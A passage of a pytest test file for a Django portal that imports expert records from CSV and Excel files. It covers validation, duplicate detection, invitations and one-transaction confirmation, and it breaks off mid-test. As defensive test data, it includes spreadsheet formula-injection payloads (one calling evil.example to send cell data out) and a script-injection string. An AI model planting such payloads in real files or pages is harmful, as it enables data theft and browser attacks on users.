"""Importing experts from CSV/XLSX: check, preview, confirm in one transaction, duplicates."""

import csv as csvlib
import io
from datetime import date, datetime

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError
from django.urls import reverse

from ace_portal.accounts.models import Invitation, User
from experts.enums import EmploymentStatus, Gender, ImportRowAction, ImportState, Proficiency
from experts.models import (
    Expert,
    ExpertImport,
    ExpertImportRow,
    Expertise,
    ExpertLanguage,
    MemberAdministration,
)
from experts.services import profile as services
from experts.services.imports import check as imports
from experts.services.imports import files as import_files
from tests.conftest import sign_in
from tests.factories import ExpertFactory, UserFactory, area, language

pytestmark = pytest.mark.django_db

HEADER = "email,given_names,family_name,administration,date_of_birth,languages,areas\n"
FORMULA = "looks like a spreadsheet formula; enter the value itself."
CONFLICT = "The roster changed while the import was being applied"


@pytest.fixture
def officer_client(client, officer):
    sign_in(client, officer)
    return client


def upload(client, content: bytes, name="experts.csv", **data):
    response = client.post(
        reverse("secretariat:import_start"),
        {"file": SimpleUploadedFile(name, content), **data},
    )
    return response


def latest():
    return ExpertImport.objects.latest("pk")


def csv_bytes(*rows: dict, delimiter=",", encoding="utf-8") -> bytes:
    """A CSV file whose columns are every key used by ``rows``, in order of appearance."""
    columns = list(dict.fromkeys(key for row in rows for key in row))
    buffer = io.StringIO()
    writer = csvlib.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(column, "") for column in columns])
    return buffer.getvalue().encode(encoding)


def person(email, given="Nadia", family="Example", administration="KE", **cells) -> dict:
    return {
        "email": email,
        "given_names": given,
        "family_name": family,
        "administration": administration,
        **cells,
    }


def check(client, capture, content: bytes, name="experts.csv", **data) -> ExpertImport:
    """Upload a file, let the (eager) check run, and return the import it made."""
    with capture(execute=True):
        response = upload(client, content, name, **data)
    assert response.status_code == 302, response.text
    expert_import = latest()
    assert response.url == reverse("secretariat:import_detail", args=[expert_import.pk])
    return expert_import


def confirm(client, capture, expert_import, **data):
    with capture(execute=True):
        response = client.post(reverse("secretariat:import_confirm", args=[expert_import.pk]), data)
    assert response.status_code == 302
    expert_import.refresh_from_db()
    return response


def outcome(expert_import) -> dict[int, tuple[str, list[str]]]:
    """line -> (action, problems) of every row of the preview."""
    return {
        row.line: (row.action, row.problems)
        for row in ExpertImportRow.objects.filter(expert_import=expert_import)
    }


def detail(client, expert_import, **params):
    return client.get(reverse("secretariat:import_detail", args=[expert_import.pk]), params)


def test_preview_then_confirm_creates_experts(officer_client, django_capture_on_commit_callbacks):
    csv = (
        HEADER
        + "new.one@customs.example,Nadia,Example,KE,1980-04-30,en:C1; fr:B2,risk-management:5\n"
        + "bad-email,Bad,Row,KE,,,\n"
        + "other@customs.example,Omar,Sample,Atlantis,,,\n"
    ).encode()
    with django_capture_on_commit_callbacks(execute=True):
        response = upload(officer_client, csv)
    expert_import = latest()
    assert response.status_code == 302
    assert expert_import.state == ImportState.READY
    actions = dict(expert_import.rows.values_list("line", "action"))
    assert actions == {
        2: ImportRowAction.CREATE,
        3: ImportRowAction.REJECT,
        4: ImportRowAction.REJECT,
    }
    assert not Expert.objects.filter(user__email="new.one@customs.example").exists()
    page = officer_client.get(reverse("secretariat:import_detail", args=[expert_import.pk]))
    assert "Enter a valid email address." in page.text
    assert "unknown Member administration" in page.text

    with django_capture_on_commit_callbacks(execute=True):
        officer_client.post(reverse("secretariat:import_confirm", args=[expert_import.pk]))
    expert_import.refresh_from_db()
    assert expert_import.state == ImportState.APPLIED
    assert expert_import.created_count == 1
    expert = Expert.objects.get(user__email="new.one@customs.example")
    assert expert.home_administration.iso_code == "KE"
    assert sorted(expert.languages.values_list("language__code", "proficiency")) == [
        ("en", 5),
        ("fr", 4),
    ]
    assert list(expert.expertise.values_list("area__code", "years")) == [("risk-management", 5)]
    assert expert.completeness > 0
    assert not expert.user.has_usable_password()


def test_xlsx_file(officer_client, django_capture_on_commit_callbacks):
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Email", "Given names", "Family name", "Administration", "Unknown"])
    sheet.append(["x@customs.example", "Xavier", "Sample", "France", "whatever"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with django_capture_on_commit_callbacks(execute=True):
        upload(officer_client, buffer.getvalue(), name="experts.xlsx")
    expert_import = latest()
    assert expert_import.state == ImportState.READY, expert_import.error
    assert expert_import.ignored_columns == ["Unknown"]
    assert list(expert_import.rows.values_list("action", flat=True)) == [ImportRowAction.CREATE]


@pytest.mark.parametrize(
    "content, message",
    [
        (b"", "The file is empty."),
        (b"email,given_names\nx@y.example,X\n", "these are missing: family_name, administration"),
        (
            "email,given_names,family_name,administration\nx@y.example,Zoë,A,KE\n".encode("cp1252"),
            "not UTF-8",
        ),
        (b"MZ\x90\x00\x03\x00\x00\x00", "not a CSV or Excel"),
        (b"email,given_names,family_name,administration\n", "has no rows"),
    ],
)
def test_bad_files_get_a_clear_message(
    officer_client, django_capture_on_commit_callbacks, content, message
):
    with django_capture_on_commit_callbacks(execute=True):
        response = upload(officer_client, content)
    if response.status_code == 400:
        assert message in response.text
    else:
        expert_import = latest()
        assert expert_import.state == ImportState.INVALID
        assert message in expert_import.error
        page = officer_client.get(reverse("secretariat:import_detail", args=[expert_import.pk]))
        assert message in page.text
    assert Expert.objects.count() == 0


# --- Row-level reasons ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cells, problem",
    [
        ({"email": "bad-email"}, "email: Enter a valid email address."),
        (
            {"administration": "XX"},
            "administration: unknown Member administration \u201cXX\u201d "
            "(use its ISO code or name).",
        ),
        (
            {"administration": "Atlantis"},
            "administration: unknown Member administration \u201cAtlantis\u201d "
            "(use its ISO code or name).",
        ),
        ({"languages": "xx:C1"}, "languages: unknown language code \u201cxx\u201d."),
        ({"languages": "en:Z9"}, "languages: en needs a level A1-C2 or native, e.g. en:B2."),
        ({"languages": "fr"}, "languages: fr needs a level A1-C2 or native, e.g. fr:B2."),
        (
            {"languages": "en:C1; qq:B2; de:Q"},
            "languages: unknown language code \u201cqq\u201d; "
            "de needs a level A1-C2 or native, e.g. de:B2.",
        ),
        ({"areas": "smuggling-arts"}, "areas: unknown thematic area \u201csmuggling-arts\u201d."),
        ({"areas": "transit:75"}, "areas: years for transit must be a number from 0 to 60."),
        (
            {"years_in_customs": "61"},
            "years in Customs: Ensure this value is less than or equal to 60.",
        ),
        (
            {"years_in_customs": "-1"},
            "years in Customs: Ensure this value is greater than or equal to 0.",
        ),
        ({"years_in_customs": "many"}, "years in Customs: Enter a whole number."),
        ({"date_of_birth": "31/02/1980"}, "date of birth: Enter a valid date."),
        ({"date_of_birth": "1980-13-01"}, "date of birth: Enter a valid date."),
        ({"gender": "f"}, "gender: f is not one of: female, male, other, undisclosed."),
        (
            {"employment_status": "active"},
            "employment status: active is not one of: serving, retired, left.",
        ),
        (
            {"nationality": "Narnia"},
            "nationality: unknown country \u201cNarnia\u201d (use its two-letter ISO code).",
        ),
        (
            {"phone": "020 123 4567"},
            "phone: Enter a valid phone number (e.g. +12125552368).",
        ),
        ({"preferred_language": "de"}, "preferred language: must be one of: en, fr."),
        ({"given_names": ""}, "given names: This field is required."),
        ({"work_email": "at-home"}, "work email: Enter a valid email address."),
        (
            {"biography": '=HYPERLINK("http://evil.example/?d="&A1,"Click")'},
            f"biography: {FORMULA}",
        ),
        ({"position": "@SUM(A1:A9)"}, f"position: {FORMULA}"),
        ({"family_name": "=1+1"}, f"family name: {FORMULA}"),
    ],
)
def test_row_rejected_with_its_reason(
    officer_client, django_capture_on_commit_callbacks, cells, problem
):
    good = person("good@customs.example", phone="+254 20 123 4567", biography="Auditor")
    bad = person("bad.row@customs.example", given="Bad", family="Row") | cells
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(good, bad))

    assert expert_import.state == ImportState.READY, expert_import.error
    assert outcome(expert_import) == {
        2: (ImportRowAction.CREATE, []),
        3: (ImportRowAction.REJECT, [problem]),
    }
    page = detail(officer_client, expert_import)
    assert problem.partition(": ")[2] in page.content.decode()


def test_formula_in_the_email_column_is_rejected_too(
    officer_client, django_capture_on_commit_callbacks
):
    bad = person('=HYPERLINK("http://evil.example","x")')
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(bad))
    action, problems = outcome(expert_import)[2]
    assert action == ImportRowAction.REJECT
    assert f"email: {FORMULA}" in problems


def test_cells_are_shown_escaped(officer_client, django_capture_on_commit_callbacks):
    row = person("x@customs.example", given="<script>alert(1)</script>", administration="<b>X")
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(row))
    text = detail(officer_client, expert_import).text
    assert "<script>alert(1)</script>" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "unknown Member administration “&lt;b&gt;X”" in text


def test_formula_in_an_xlsx_cell_is_rejected(officer_client, django_capture_on_commit_callbacks):
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["email", "given_names", "family_name", "administration", "position"])
    sheet.append(["x@customs.example", "Xavier", "Sample", "FR", '=HYPERLINK("http://e.example")'])
    sheet.append(["y@customs.example", "Yara", "Sample", "FR", "Auditor"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, buffer.getvalue(), name="x.xlsx"
    )
    assert outcome(expert_import) == {
        2: (ImportRowAction.REJECT, [f"position: {FORMULA}"]),
        3: (ImportRowAction.CREATE, []),
    }


def test_typed_xlsx_cells_are_read_as_text(officer_client, django_capture_on_commit_callbacks):
    """Excel keeps dates as dates and numbers as floats; the import reads what the cell shows."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["email", "given_names", "family_name", "administration", "date_of_birth"])
    sheet["F1"], sheet["G1"] = "years_in_customs", "phone"
    sheet.append(["t@customs.example", "Tomas", "Typed", "KE", datetime(1980, 4, 30), 12.0])
    sheet["G2"] = 254201234567  # a phone number typed as a number: no "+", not international
    buffer = io.BytesIO()
    workbook.save(buffer)
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, buffer.getvalue(), name="t.xlsx"
    )
    row = expert_import.rows.get()
    assert row.cells["date_of_birth"] == "1980-04-30"
    assert row.cells["years_in_customs"] == "12"
    assert row.action == ImportRowAction.REJECT
    assert row.problems == ["phone: Enter a valid phone number (e.g. +12125552368)."]


@pytest.mark.parametrize(
    "cells, expected",
    [
        ({"administration": "Germany"}, {"home_administration_id": ("DE",)}),
        ({"administration": "Allemagne"}, {"home_administration_id": ("DE",)}),
        ({"administration": "de"}, {"home_administration_id": ("DE",)}),
        ({"date_of_birth": "30/04/1980"}, {"date_of_birth": "1980-04-30"}),
        ({"date_of_birth": "30.04.1980"}, {"date_of_birth": "1980-04-30"}),
        ({"gender": "Female", "employment_status": "RETIRED"}, {"gender": Gender.FEMALE}),
        ({"nationality": "Kenya"}, {"nationality": "KE"}),
        ({"phone": "+254 20 123 4567"}, {"phone": "+254201234567"}),
        ({"years_in_customs": "0"}, {"years_in_customs": 0}),
        ({"preferred_language": "FR"}, {"preferred_language": "fr"}),
    ],
)
def test_row_values_in_the_forms_people_write_them(
    officer_client, django_capture_on_commit_callbacks, cells, expected
):
    expert_import = check(
        officer_client,
        django_capture_on_commit_callbacks,
        csv_bytes(person("ok@customs.example", **cells)),
    )
    row = expert_import.rows.get()
    assert (row.action, row.problems) == (ImportRowAction.CREATE, [])
    for name, value in expected.items():
        if isinstance(value, tuple):  # an administration, by its ISO code
            value = MemberAdministration.objects.get(iso_code=value[0]).pk
        assert row.values[name] == value
    if "employment_status" in cells:
        assert row.values["employment_status"] == EmploymentStatus.RETIRED


def test_languages_and_areas_by_name_and_code(officer_client, django_capture_on_commit_callbacks):
    row = person(
        "polyglot@customs.example",
        languages="English C1, Français:native; es:B1; en:A2",
        areas="Risk management; Gestion des risques:4; Rules of origin 7 | transit",
    )
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(row))
    values = expert_import.rows.get().values
    assert values["languages"] == sorted(
        [
            [language("en").pk, Proficiency.C1],  # the higher of C1 and A2
            [language("fr").pk, Proficiency.NATIVE],
            [language("es").pk, Proficiency.B1],
        ]
    )
    assert values["areas"] == sorted(
        [[area("risk-management").pk, 4], [area("rules-of-origin").pk, 7], [area("transit").pk, 0]]
    )


# --- Reading files ----------------------------------------------------------------------------


ROWS = [
    person("zoe@customs.example", given="Zoë", family="Müller", administration="DE"),
    person("kofi@customs.example", given="Kofi", family="Annan-Mensah", administration="GH"),
]


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(csv_bytes(*ROWS, delimiter=";"), id="semicolons"),
        pytest.param(csv_bytes(*ROWS, delimiter="\t"), id="tabs"),
        pytest.param(b"\xef\xbb\xbf" + csv_bytes(*ROWS), id="utf-8-bom"),
        pytest.param(csv_bytes(*ROWS, delimiter="\t", encoding="utf-16"), id="utf-16-tabs"),
        pytest.param(b"\xfe\xff" + csv_bytes(*ROWS, encoding="utf-16-be"), id="utf-16be"),
    ],
)
def test_csv_dialects_and_encodings(officer_client, django_capture_on_commit_callbacks, content):
    expert_import = check(officer_client, django_capture_on_commit_callbacks, content)
    assert expert_import.state == ImportState.READY, expert_import.error
    assert [(row.action, row.cells["given_names"]) for row in expert_import.rows.all()] == [
        (ImportRowAction.CREATE, "Zoë"),
        (ImportRowAction.CREATE, "Kofi"),
    ]
    assert expert_import.ignored_columns == []


def test_semicolon_file_with_quoted_text_keeps_its_columns(
    officer_client, django_capture_on_commit_callbacks
):
    """Excel writes a quote inside a cell as two quotes; neither that nor a ';' inside a quoted
    cell may make the file lose its columns."""
    rows = [person(f"p{n}@customs.example", family=f"Person{n}") for n in range(3)]
    rows.append(
        person(
            "quoted@customs.example",
            biography='Led the "AEO" programme; then the "PCA" unit, twice',
            areas="transit; risk-management",
        )
    )
    for delimiter in (";", ","):
        expert_import = check(
            officer_client,
            django_capture_on_commit_callbacks,
            csv_bytes(*rows, delimiter=delimiter),
        )
        assert expert_import.state == ImportState.READY, (delimiter, expert_import.error)
        last = expert_import.rows.get(line=5)
        assert last.action == ImportRowAction.CREATE, last.problems
        assert last.values["biography"] == 'Led the "AEO" programme; then the "PCA" unit, twice'


def test_header_aliases_and_extra_columns(officer_client, django_capture_on_commit_callbacks):
    content = (
        b"E-mail,First name,Surname,Member administration,Date of birth,Sex,Telephone,"
        b"Internal ID,Notes,Thematic areas,Bio\n"
        b"amina@customs.example,Amina,Odhiambo,KE,1980-04-30,female,+254 20 123 4567,"
        b"K-17,call back,transit,Auditor\n"
    )
    expert_import = check(officer_client, django_capture_on_commit_callbacks, content)
    assert expert_import.state == ImportState.READY, expert_import.error
    assert expert_import.ignored_columns == ["Internal ID", "Notes"]
    row = expert_import.rows.get()
    assert row.action == ImportRowAction.CREATE
    assert row.values["given_names"] == "Amina"
    assert row.values["family_name"] == "Odhiambo"
    assert row.values["gender"] == Gender.FEMALE
    assert row.values["phone"] == "+254201234567"
    assert row.values["biography"] == "Auditor"
    assert row.values["areas"] == [[area("transit").pk, 0]]
    assert "K-17" not in str(row.cells)
    page = detail(officer_client, expert_import)
    assert "These columns are not known and were ignored: Internal ID, Notes" in page.text


def test_last_name_alias_and_a_repeated_column_is_ignored(
    officer_client, django_capture_on_commit_callbacks
):
    content = b"email,given name,last name,administration,family name\nx@c.example,X,Last,KE,Y\n"
    expert_import = check(officer_client, django_capture_on_commit_callbacks, content)
    assert expert_import.ignored_columns == ["family name"]
    assert expert_import.rows.get().values["family_name"] == "Last"


def test_a_file_over_the_limit_is_refused_before_it_is_read(officer_client, settings):
    """The real limit (20 MB): a 50 MB upload is refused from its declared length."""
    assert settings.ACE_IMPORT_MAX_BYTES == 20 * 1024 * 1024
    content = HEADER.encode() + b"x" * (50 * 1024 * 1024)
    response = upload(officer_client, content)
    assert response.status_code == 400
    assert "The file is larger than 20 MB; split it into smaller files." in response.text
    assert ExpertImport.objects.count() == 0


def test_a_file_just_over_the_limit_is_refused_with_its_size(officer_client, settings):
    """A file inside the slack kept for the form's other fields is refused by its own size."""
    settings.ACE_IMPORT_MAX_BYTES = 1024 * 1024
    content = HEADER.encode() + b"x" * (1024 * 1024 + 10_000)
    response = upload(officer_client, content)
    assert response.status_code == 400
    assert "The file is 1.1 MB; the largest file accepted is 1 MB." in response.text
    assert ExpertImport.objects.count() == 0


def test_too_many_rows(officer_client, django_capture_on_commit_callbacks, settings):
    settings.ACE_IMPORT_MAX_ROWS = 3
    rows = [person(f"p{n}@customs.example", family=f"Person{n}") for n in range(4)]
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(*rows))
    assert expert_import.state == ImportState.INVALID
    assert expert_import.error == "The file has more than 3 rows; split it into smaller files."
    assert expert_import.content is None
    assert not expert_import.rows.exists()
    # Exactly at the limit is fine.
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(*rows[:3]))
    assert expert_import.state == ImportState.READY


def test_too_many_rows_in_a_workbook_with_blank_rows(
    officer_client, django_capture_on_commit_callbacks, settings
):
    """Blank rows in a workbook must not make it stop reading early and drop the last rows."""
    from openpyxl import Workbook

    settings.ACE_IMPORT_MAX_ROWS = 3
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["email", "given_names", "family_name", "administration"])
    sheet.append([])
    sheet.append([None, None, None, None])
    for n in range(4):
        sheet.append([f"p{n}@customs.example", "P", f"Person{n}", "KE"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, buffer.getvalue(), name="x.xlsx"
    )
    assert expert_import.state == ImportState.INVALID
    assert "more than 3 rows" in expert_import.error


def test_an_unreadable_workbook(officer_client, django_capture_on_commit_callbacks):
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, b"PK\x03\x04broken", name="x.xlsx"
    )
    assert expert_import.state == ImportState.INVALID
    assert "not a readable Excel (.xlsx) workbook" in expert_import.error


def test_template_download_is_a_file_that_checks_clean(
    officer_client, django_capture_on_commit_callbacks
):
    response = officer_client.get(reverse("secretariat:import_template"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="experts-import-template.csv"'
    assert response.content.decode().splitlines()[0] == ",".join(import_files.COLUMNS)
    expert_import = check(officer_client, django_capture_on_commit_callbacks, response.content)
    assert outcome(expert_import) == {2: (ImportRowAction.CREATE, [])}


# --- Duplicates -------------------------------------------------------------------------------


def test_same_email_as_an_existing_expert_is_flagged_not_created(
    officer_client, django_capture_on_commit_callbacks, alice
):
    rows = [
        person(alice.user.email.upper(), given="Alicia", family="Mwangi"),
        person("fresh@customs.example"),
    ]
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(*rows))
    assert outcome(expert_import) == {
        2: (ImportRowAction.DUPLICATE, ["An expert with this email is already registered."]),
        3: (ImportRowAction.CREATE, []),
    }
    assert expert_import.rows.get(line=2).expert == alice
    page = detail(officer_client, expert_import)
    assert reverse("secretariat:expert_detail", args=[alice.pk]) in page.text

    confirm(officer_client, django_capture_on_commit_callbacks, expert_import)
    assert expert_import.state == ImportState.APPLIED
    assert (expert_import.created_count, expert_import.updated_count) == (1, 0)
    alice.refresh_from_db()
    assert alice.given_names == "Alice"
    assert User.objects.filter(email__iexact=alice.user.email).count() == 1


@pytest.fixture
def alice_with_profile(alice):
    alice.unit = "Audit"
    alice.position = "Auditor"
    alice.phone = "+254 20 1234567"
    alice.save()
    ExpertLanguage.objects.create(expert=alice, language=language("en"), proficiency=Proficiency.B2)
    ExpertLanguage.objects.create(expert=alice, language=language("fr"), proficiency=Proficiency.C1)
    Expertise.objects.create(expert=alice, area=area("transit"), years=9)
    return alice


def test_update_existing_shows_the_changes_and_applies_only_them(
    officer_client, django_capture_on_commit_callbacks, alice_with_profile, bob
):
    alice = alice_with_profile
    bob.position = "Trainer"
    bob.phone = "+254 20 7654321"
    bob.save()
    rows = [
        person(
            alice.user.email,
            given="Alice",
            family="Mwangi",
            position="Head of Risk",
            unit="",  # empty: keeps "Audit"
            phone="+254 20 1234567",  # the same number, written another way
            languages="en:C1; fr:A2; es:B1",  # en raised, fr never lowered, es added
            areas="transit:3; risk-management:4",  # transit kept as is, risk added
        ),
        person(
            bob.user.email,
            given="Bob",
            family="Okafor",
            position="Trainer",
            phone="+254207654321",
        ),
    ]
    expert_import = check(
        officer_client,
        django_capture_on_commit_callbacks,
        csv_bytes(*rows),
        update_existing="on",
    )
    assert outcome(expert_import) == {
        2: (ImportRowAction.UPDATE, []),
        3: (ImportRowAction.UNCHANGED, []),
    }
    assert expert_import.rows.get(line=2).changes == {
        "position": ["Auditor", "Head of Risk"],
        "languages": ["", "en:C1, es:B1"],
        "areas": ["", "risk-management"],
    }
    page = detail(officer_client, expert_import)
    assert "position: Auditor &rarr; Head of Risk" in page.text or (
        "position: Auditor \u2192 Head of Risk" in page.text
    )
    assert "1 row will be written" in page.text
    assert not Expertise.objects.filter(expert=alice, area=area("risk-management")).exists()

    confirm(officer_client, django_capture_on_commit_callbacks, expert_import)
    assert expert_import.state == ImportState.APPLIED, expert_import.error
    assert (expert_import.created_count, expert_import.updated_count) == (0, 1)
    alice.refresh_from_db()
    assert (alice.position, alice.unit) == ("Head of Risk", "Audit")
    assert dict(alice.languages.values_list("language__code", "proficiency")) == {
        "en": Proficiency.C1,
        "fr": Proficiency.C1,
        "es": Proficiency.B1,
    }
    assert dict(alice.expertise.values_list("area__code", "years")) == {
        "transit": 9,
        "risk-management": 4,
    }
    assert Invitation.objects.count() == 0


def test_update_of_the_administration_is_shown_by_its_code(
    officer_client, django_capture_on_commit_callbacks, alice
):
    rows = [person(alice.user.email, given="Alice", family="Mwangi", administration="UG")]
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, csv_bytes(*rows), update_existing="on"
    )
    row = expert_import.rows.get()
    assert row.action == ImportRowAction.UPDATE
    assert row.changes == {"administration": ["KE", "UG"]}
    confirm(officer_client, django_capture_on_commit_callbacks, expert_import)
    alice.refresh_from_db()
    assert alice.home_administration.iso_code == "UG"


def test_same_email_twice_in_the_file(officer_client, django_capture_on_commit_callbacks):
    rows = [
        person("twice@customs.example", family="First"),
        person("other@customs.example", family="Other"),
        person("Twice@Customs.example", family="Second"),
    ]
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(*rows))
    assert outcome(expert_import) == {
        2: (ImportRowAction.CREATE, []),
        3: (ImportRowAction.CREATE, []),
        4: (ImportRowAction.REJECT, ["The same email is on row 2."]),
    }


def test_email_of_a_staff_user_is_rejected(
    officer_client, django_capture_on_commit_callbacks, officer, admin_user
):
    rows = [person(officer.email), person(admin_user.email, family="Admin")]
    for update_existing in ("", "on"):
        expert_import = check(
            officer_client,
            django_capture_on_commit_callbacks,
            csv_bytes(*rows),
            update_existing=update_existing,
        )
        message = ["This email belongs to a portal account that is not an expert."]
        assert outcome(expert_import) == {
            2: (ImportRowAction.REJECT, message),
            3: (ImportRowAction.REJECT, message),
        }
    assert not Expert.objects.filter(user__in=[officer, admin_user]).exists()


@pytest.fixture
def aissatou(db):
    return ExpertFactory(
        given_names="Aïssatou",
        family_name="Diallo",
        date_of_birth=date(1979, 3, 2),
        home_administration=MemberAdministration.objects.get(iso_code="KE"),
    )


@pytest.mark.parametrize(
    "given, family, administration, born, action",
    [
        ("Aissatou", "DIALLO", "KE", "1979-03-02", ImportRowAction.DUPLICATE),
        ("DIALLO", "Aïssatou", "KE", "02/03/1979", ImportRowAction.DUPLICATE),
        ("Aissatou", "Dialo", "KE", "1979-03-02", ImportRowAction.DUPLICATE),  # a typo
        ("Aissatou", "Diallo", "KE", "1979-03-03", ImportRowAction.CREATE),  # another day
        ("Aissatou", "Diallo", "UG", "1979-03-02", ImportRowAction.CREATE),  # elsewhere
        ("Fatou", "Diallo", "KE", "1979-03-02", ImportRowAction.CREATE),  # another person
    ],
)
def test_very_similar_name_same_administration_and_birth_date_is_a_duplicate(
    officer_client, django_capture_on_commit_callbacks, aissatou, given, family, administration,
    born, action,
):  # fmt: skip
    row = person("a.diallo@customs.example", given, family, administration, date_of_birth=born)
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(row))
    imported = expert_import.rows.get()
    assert imported.action == action
    if action == ImportRowAction.DUPLICATE:
        assert imported.problems == [
            "Very similar name, same administration and date of birth as Aïssatou Diallo, "
            "already on the roster."
        ]
        assert imported.expert == aissatou
        assert "same_email" not in imported.values


def test_very_similar_names_within_the_file(officer_client, django_capture_on_commit_callbacks):
    rows = [
        person("k1@customs.example", "Kwame", "Mensah", "GH", date_of_birth="1985-01-01"),
        person("k2@customs.example", "MENSAH", "Kwame", "GH", date_of_birth="1985-01-01"),
        person("k3@customs.example", "Kwame", "Mensha", "GH", date_of_birth="01/01/1985"),
        person("k4@customs.example", "Kwame", "Mensah", "GH", date_of_birth="1986-01-01"),
        # No date of birth: the same name (folded) is flagged, a merely similar one is not.
        person("k5@customs.example", "KWAME", "Mensah", "GH"),
        person("k6@customs.example", "Kwame", "Menssah", "GH"),
    ]
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(*rows))
    same = ["Very similar name, same administration and date of birth as row 2."]
    no_birth_date = [
        "Same name and administration as row 2, with no date of birth to tell them apart."
    ]
    assert outcome(expert_import) == {
        2: (ImportRowAction.CREATE, []),
        3: (ImportRowAction.DUPLICATE, same),
        4: (ImportRowAction.DUPLICATE, same),
        5: (ImportRowAction.CREATE, []),
        6: (ImportRowAction.DUPLICATE, no_birth_date),
        7: (ImportRowAction.CREATE, []),
    }


def test_create_flagged_duplicates_anyway_creates_only_name_duplicates(
    officer_client, django_capture_on_commit_callbacks, aissatou, alice
):
    rows = [
        person("a.diallo@customs.example", "Aissatou", "DIALLO", date_of_birth="1979-03-02"),
        person(alice.user.email, "Alice", "Mwangi"),
    ]
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(*rows))
    assert [action for action, _problems in outcome(expert_import).values()] == [
        ImportRowAction.DUPLICATE,
        ImportRowAction.DUPLICATE,
    ]
    page = detail(officer_client, expert_import)
    assert "1 row has a very similar name" in page.text
    assert 'name="create_duplicates"' in page.text

    confirm(
        officer_client, django_capture_on_commit_callbacks, expert_import, create_duplicates="on"
    )
    assert expert_import.state == ImportState.APPLIED
    assert expert_import.created_count == 1
    assert Expert.objects.filter(user__email="a.diallo@customs.example").exists()
    assert User.objects.filter(email__iexact=alice.user.email).count() == 1
    assert Expert.objects.count() == 3


def test_flagged_duplicates_are_left_out_by_default(
    officer_client, django_capture_on_commit_callbacks, aissatou
):
    rows = [
        person("a.diallo@customs.example", "Aissatou", "DIALLO", date_of_birth="1979-03-02"),
        person("someone@customs.example", "Some", "One"),
    ]
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(*rows))
    confirm(officer_client, django_capture_on_commit_callbacks, expert_import)
    assert expert_import.created_count == 1
    assert not User.objects.filter(email="a.diallo@customs.example").exists()
    assert Expert.objects.filter(user__email="someone@customs.example").exists()


# --- Invitations ------------------------------------------------------------------------------


def two_new_and_alice(alice):
    return csv_bytes(
        person("first.new@customs.example", "First", "New", preferred_language="fr"),
        person("second.new@customs.example", "Second", "New"),
        person(alice.user.email, "Alice", "Mwangi", position="Chief"),
    )


def test_no_invitation_unless_the_officer_chooses(
    officer_client, django_capture_on_commit_callbacks, mailoutbox, alice
):
    expert_import = check(
        officer_client,
        django_capture_on_commit_callbacks,
        two_new_and_alice(alice),
        update_existing="on",
    )
    confirm(officer_client, django_capture_on_commit_callbacks, expert_import)
    assert expert_import.state == ImportState.APPLIED
    assert (expert_import.created_count, expert_import.updated_count) == (2, 1)
    assert not expert_import.send_invitations
    assert Invitation.objects.count() == 0
    assert mailoutbox == []
    assert "Activation links were emailed" not in detail(officer_client, expert_import).text


def test_invitations_when_chosen_go_to_the_created_experts_only(
    officer_client, django_capture_on_commit_callbacks, mailoutbox, alice, officer
):
    expert_import = check(
        officer_client,
        django_capture_on_commit_callbacks,
        two_new_and_alice(alice),
        update_existing="on",
    )
    confirm(
        officer_client, django_capture_on_commit_callbacks, expert_import, send_invitations="on"
    )
    assert expert_import.state == ImportState.APPLIED
    invited = Invitation.objects.values_list("user__email", "created_by")
    assert sorted(invited) == [
        ("first.new@customs.example", officer.pk),
        ("second.new@customs.example", officer.pk),
    ]
    assert sorted(message.to[0] for message in mailoutbox) == [
        "first.new@customs.example",
        "second.new@customs.example",
    ]
    by_recipient = {message.to[0]: message for message in mailoutbox}
    assert by_recipient["second.new@customs.example"].subject == (
        "[ACE Portal] Activate your ACE Portal account"
    )
    assert by_recipient["first.new@customs.example"].subject == (
        "[ACE Portal] Activez votre compte sur le Portail ACE"  # the language the file gave
    )
    link = "http://testserver/accounts/"
    english = by_recipient["second.new@customs.example"]
    assert link in english.body
    assert link in english.alternatives[0][0]
    assert "Activation links were emailed to the new experts." in (
        detail(officer_client, expert_import).text
    )


# --- Confirming, rollback, cancelling ---------------------------------------------------------


def test_nothing_is_written_before_confirming(officer_client, django_capture_on_commit_callbacks):
    experts, users = Expert.objects.count(), User.objects.count()
    expert_import = check(
        officer_client,
        django_capture_on_commit_callbacks,
        csv_bytes(person("a@customs.example"), person("b@customs.example", family="B")),
    )
    assert expert_import.state == ImportState.READY
    assert (Expert.objects.count(), User.objects.count()) == (experts, users)
    page = detail(officer_client, expert_import)
    assert "2 rows will be written, all together or not at all." in page.text


def test_email_registered_between_preview_and_confirm_fails_without_writing(
    officer_client, django_capture_on_commit_callbacks, alice
):
    rows = [
        person("early@customs.example", "Early", "Bird"),
        person("late@customs.example", "Late", "Comer"),
